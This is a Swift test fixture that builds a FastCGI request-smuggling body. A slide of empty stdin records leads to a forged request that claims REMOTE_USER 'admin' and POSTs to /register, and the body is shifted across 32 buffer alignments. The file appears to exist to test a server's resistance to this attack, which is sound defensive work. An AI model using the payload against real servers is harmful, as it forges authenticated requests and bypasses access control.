import AfterglowTesting

/// A request body that turns into a request of its own wherever the reading of records begins within it.
///
/// It is the attack of a client of the web server on a server that keeps a connection with an unread body: the server drops
/// what its buffer of 8 KiB holds, and takes the rest for records. Where that falls is not the client's to know, so the body
/// is a slide of empty records of another request, which libfcgi passes over, down to a forged request.
enum ForgedBody {
  /// As many as there are in the acceptance figure: each begins at another byte of the buffer.
  static let alignments = 32

  /// What a forged request would leave in Registration's log.
  static let email = "forged@example.org"

  /// Shifts what follows the params by another number of bytes, through all of the buffer and all eight of a header.
  static func shift(_ alignment: Int) -> String { String(repeating: "a", count: 1 + alignment * 257) }

  /// A body of 20,000 to 113,000 bytes: some arrive whole with their request, some are left in the socket.
  static func bytes(_ alignment: Int) -> [UInt8] {
    let block = slide + forgedRequest
    let count = (20_000 + alignment * 3000) / block.count
    let blocks = [[UInt8]](repeating: block, count: count).flatMap { $0 }
    return [UInt8](repeating: 0, count: alignment % 8) + blocks
  }

  private static let slide = [[UInt8]](
    repeating: Record(type: .stdin, requestID: 7).encoded, count: 400
  ).flatMap { $0 }

  private static let forgedRequest: [UInt8] = {
    let user = Array(#"{"email":"\#(email)","password":"lovelace"}"#.utf8)
    let params = [
      ("REMOTE_USER", "admin"), ("REQUEST_METHOD", "POST"), ("REQUEST_URI", "/register"),
      ("CONTENT_TYPE", "application/json"), ("CONTENT_LENGTH", "\(user.count)"),
      ("SERVER_PROTOCOL", "HTTP/1.1"),
    ].flatMap { NameValuePair(name: $0.0, value: $0.1).encoded }
    let records =
      [Record.beginRequest(requestID: 1, role: .responder, keepConnection: true)]
      + Record.stream(.params, requestID: 1, content: params) + [Record(type: .params, requestID: 1)]
      + Record.stream(.stdin, requestID: 1, content: user) + [Record(type: .stdin, requestID: 1)]
    let bytes = records.flatMap(\.encoded)
    // The slide goes on at the same alignment behind it.
    return bytes + [UInt8](repeating: 0, count: (8 - bytes.count % 8) % 8)
  }()
}
